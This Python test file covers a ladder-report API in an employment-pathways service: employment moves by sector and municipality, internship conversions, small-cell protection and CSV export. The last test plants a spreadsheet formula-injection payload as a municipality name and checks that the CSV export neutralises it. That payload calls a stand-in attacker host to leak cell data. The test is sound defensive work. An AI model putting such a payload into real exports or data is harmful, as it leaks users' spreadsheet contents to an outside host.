"""The ladder report (``GET /reports/ladder``): moves on the employment ladder by direction, the
sector moved into and the person's municipality; internships done by host organisation, and
whether each turned into contracted work with its host within six months (pending while that
window is open). Exact for the org admin, protected as whole tables for an operator; CSV."""

from __future__ import annotations

import csv
import io
import uuid
from datetime import UTC, datetime
from typing import Any

import httpx

from services.pathways.schemas.reports import LadderReport
from shared import clock
from shared.crosstab import TOTAL, cross_tabulate
from tests.pathways.conftest import open_pathway, person, step
from tests.shared.test_crosstab import recoverable
from tests.support import Org, as_documented

URL = "/api/v1/reports/ladder"
PERIOD = {"date_from": "2026-01-01", "date_to": "2026-06-30"}


def _at(month: int, day: int = 2) -> datetime:
    return datetime(2026, month, day, 9, tzinfo=UTC)


async def _pathway(
    pathways: httpx.AsyncClient, org: Org, municipality: str, actions: list[dict[str, Any]]
) -> tuple[str, list[str]]:
    """An assessed pathway (informal work) with ``actions`` planned: its id and the actions'."""
    with clock.frozen_at(_at(1)):
        someone = await person(pathways, org, municipality=municipality)
        pathway = await open_pathway(pathways, org, someone)
        assert (await step(pathways, org, pathway["id"], "assess")).status_code == 201
        planned = await step(
            pathways, org, pathway["id"], "respond", {"actions": actions or [_action("legal_aid")]}
        )
    assert planned.status_code == 201, planned.text
    listed = await pathways.get(f"/api/v1/pathways/{pathway['id']}/actions", headers=org.operator)
    return pathway["id"], [action["id"] for action in listed.json()["items"]]


def _action(kind: str, host: str | None = None) -> dict[str, Any]:
    return {"type": kind, "title": kind, "provider_organization_id": host}


async def _monitor(
    pathways: httpx.AsyncClient, org: Org, pathway: str, at: datetime, **body: Any
) -> None:
    with clock.frozen_at(at):
        answer = await step(pathways, org, pathway, "monitor", {"progress": [], **body})
    assert answer.status_code == 201, answer.text


def _cells(table: dict[str, Any]) -> dict[tuple[str, ...], Any]:
    return {tuple(cell[name] for name in table["by"]): cell["count"] for cell in table["cells"]}


async def test_moves_by_direction_sector_and_territory(
    pathways: httpx.AsyncClient, orgs: tuple[Org, Org, Org]
) -> None:
    a, b, _ = orgs
    for _ in range(6):  # informal -> formal in construction, in Latina
        pathway, _ids = await _pathway(pathways, a, "Latina", [])
        job = {"sector": "F", "contract_type": "permanent", "weekly_hours": 38}
        await _monitor(pathways, a, pathway, _at(3), employment_status="formal_employment", job=job)
    pathway, _ids = await _pathway(pathways, a, "Aprilia", [])  # informal -> exploited
    await _monitor(pathways, a, pathway, _at(4), employment_status="exploited")
    # After the period: not counted; another organisation's: not in A's report.
    late, _ids = await _pathway(pathways, a, "Latina", [])
    await _monitor(pathways, a, late, _at(7, 15), employment_status="formal_employment")
    other, _ids = await _pathway(pathways, b, "Latina", [])
    await _monitor(pathways, b, other, _at(3), employment_status="formal_employment")

    with clock.frozen_at(_at(8)):
        own = as_documented(
            LadderReport, (await pathways.get(URL, params=PERIOD, headers=a.admin)).json()
        )
        protected = as_documented(
            LadderReport, (await pathways.get(URL, params=PERIOD, headers=a.operator)).json()
        )
    moves = _cells(own["moves"])
    assert own["moves"]["by"] == ["direction", "sector", "municipality"]
    assert moves[("upward", "F", "Latina")] == 6
    assert moves[("downward", "not_recorded", "Aprilia")] == 1
    assert moves[(TOTAL, TOTAL, TOTAL)] == 7
    assert own["small_cells"].startswith("exact")

    shown = _cells(protected["moves"])
    assert shown[("downward", "not_recorded", "Aprilia")] == "<5"
    assert shown[(TOTAL, TOTAL, TOTAL)] in (7, "withheld")
    inner = [(cell, n) for cell, n in moves.items() if TOTAL not in cell]
    table = cross_tabulate(own["moves"]["by"], inner)
    assert recoverable(table, shown) == {}  # no hidden cell follows from what is shown


async def test_internships_convert_with_their_host_within_six_months(
    pathways: httpx.AsyncClient, orgs: tuple[Org, Org, Org]
) -> None:
    a, _, _ = orgs
    host, elsewhere = str(uuid.uuid4()), str(uuid.uuid4())
    outcomes = []
    # (months after the end the person is hired, by whom): with the host at 2 months converts;
    # by another employer, or after 6 months, does not; nobody hired yet is pending until then.
    for hired in ((2, host), (2, host), (1, elsewhere), (8, host), (None, None)):
        pathway, (internship,) = await _pathway(
            pathways, a, "Latina", [_action("internship", host)]
        )
        done = [{"action_id": internship, "status": "done"}]
        await _monitor(pathways, a, pathway, _at(2), progress=done)
        if hired[0] is not None:
            job = {"employer_organization_id": hired[1], "sector": "I"}
            moment = _at(2 + hired[0])
            await _monitor(
                pathways, a, pathway, moment, employment_status="formal_employment", job=job
            )
        outcomes.append(pathway)

    with clock.frozen_at(_at(7)):  # the windows (to 2 August) are open
        early = _cells(
            (await pathways.get(URL, params=PERIOD, headers=a.admin)).json()["internships"]
        )
    assert early[(host, "converted")] == 2
    assert early[(host, "pending")] == 3
    with clock.frozen_at(datetime(2026, 12, 1, 9, tzinfo=UTC)):
        late = (await pathways.get(URL, params=PERIOD, headers=a.admin)).json()["internships"]
    assert late["conversion_months"] == 6
    counted = _cells(late)
    assert counted[(host, "converted")] == 2
    assert counted[(host, "not_converted")] == 3
    assert (host, "pending") not in counted
    assert counted[(TOTAL, TOTAL)] == 5


async def test_the_csv_has_both_tables_and_bad_input_is_refused(
    pathways: httpx.AsyncClient, orgs: tuple[Org, Org, Org]
) -> None:
    a, _, _ = orgs
    pathway, _ids = await _pathway(pathways, a, "Latina", [])
    await _monitor(pathways, a, pathway, _at(3), employment_status="unemployed_seeking")
    with clock.frozen_at(_at(7)):
        answer = await pathways.get(URL, params=PERIOD, headers={**a.admin, "Accept": "text/csv"})
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-disposition"].endswith('ponte-ladder-2026-01-01-2026-06-30.csv"')
    rows = list(csv.reader(io.StringIO(answer.text)))
    assert rows[0] == ["table", "direction", "sector", "municipality", "host", "outcome", "count"]
    assert ["moves", "upward", "not_recorded", "Latina", "", "", "1"] in rows
    assert ["internships", "", "", "", "total", "total", "0"] in rows

    for query, field in (
        ({"date_from": "2026-07-01", "date_to": "2026-01-01"}, "query"),
        ({"project_id": "not-an-id"}, "query.project_id"),
        ({"date_to": "0001-03-01"}, "query.date_to"),  # a year back would overflow
    ):
        refused = await pathways.get(URL, params=query, headers=a.admin)
        assert refused.status_code == 422, refused.text
        assert refused.headers["content-type"] == "application/problem+json"
        assert refused.json()["errors"][0]["field"].startswith(field)
    assert (await pathways.get(URL, params=PERIOD, headers=a.provider)).status_code == 403
    unknown = await pathways.get(URL, params={"project_id": str(uuid.uuid4())}, headers=a.admin)
    assert unknown.status_code == 404


async def test_a_later_change_does_not_move_an_internship_and_people_are_counted_once(
    pathways: httpx.AsyncClient, orgs: tuple[Org, Org, Org]
) -> None:
    a, _, _ = orgs
    host = str(uuid.uuid4())
    pathway, (internship,) = await _pathway(pathways, a, "Latina", [_action("internship", host)])
    await _monitor(pathways, a, pathway, _at(2), progress=[{"action_id": internship,
                                                           "status": "done"}])  # fmt: skip
    # The same person up and down twice: one person in each cell, not four moves.
    for month, status in ((3, "formal_employment"), (4, "informal"), (5, "formal_employment")):
        await _monitor(pathways, a, pathway, _at(month), employment_status=status)
    url = f"/api/v1/pathways/{pathway}/actions/{internship}"
    with clock.frozen_at(_at(9)):  # a change months later (its note, say) leaves its end alone
        etag = (await pathways.get(url, headers=a.operator)).headers["ETag"]
        noted = await pathways.patch(
            url, json={"progress": "Certificate filed"}, headers={**a.operator, "If-Match": etag}
        )
        assert noted.status_code == 200, noted.text
        report = (await pathways.get(URL, params=PERIOD, headers=a.admin)).json()
    assert _cells(report["internships"])[(host, "not_converted")] == 1
    moves = _cells(report["moves"])
    assert moves[("upward", "not_recorded", "Latina")] == 1
    assert moves[("downward", "not_recorded", "Latina")] == 1


async def test_a_protected_reader_reads_a_municipality_in_the_whole_table_and_the_csv_is_inert(
    pathways: httpx.AsyncClient, orgs: tuple[Org, Org, Org]
) -> None:
    a, _, _ = orgs
    formula = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    pathway, _ids = await _pathway(pathways, a, formula, [])
    await _monitor(pathways, a, pathway, _at(3), employment_status="formal_employment")
    cut = {**PERIOD, "municipality": "Latina"}
    with clock.frozen_at(_at(7)):
        refused = await pathways.get(URL, params=cut, headers=a.operator)
        crosstab = await pathways.get(
            "/api/v1/reports/indicators", params={**cut, "by": "sex,municipality"},
            headers=a.operator,
        )  # fmt: skip
        exact = await pathways.get(URL, params=cut, headers=a.admin)
        as_csv = await pathways.get(URL, params=PERIOD, headers={**a.admin, "Accept": "text/csv"})
    for answer in (refused, crosstab):
        assert answer.status_code == 422, answer.text
        assert answer.json()["errors"][0]["field"] == "query.municipality"
    assert exact.status_code == 200  # the org admin may cut its own exact table
    rows = list(csv.reader(io.StringIO(as_csv.text)))
    municipalities = {row[3] for row in rows[1:] if row[0] == "moves"}
    assert f"'{formula}" in municipalities
    assert formula not in municipalities
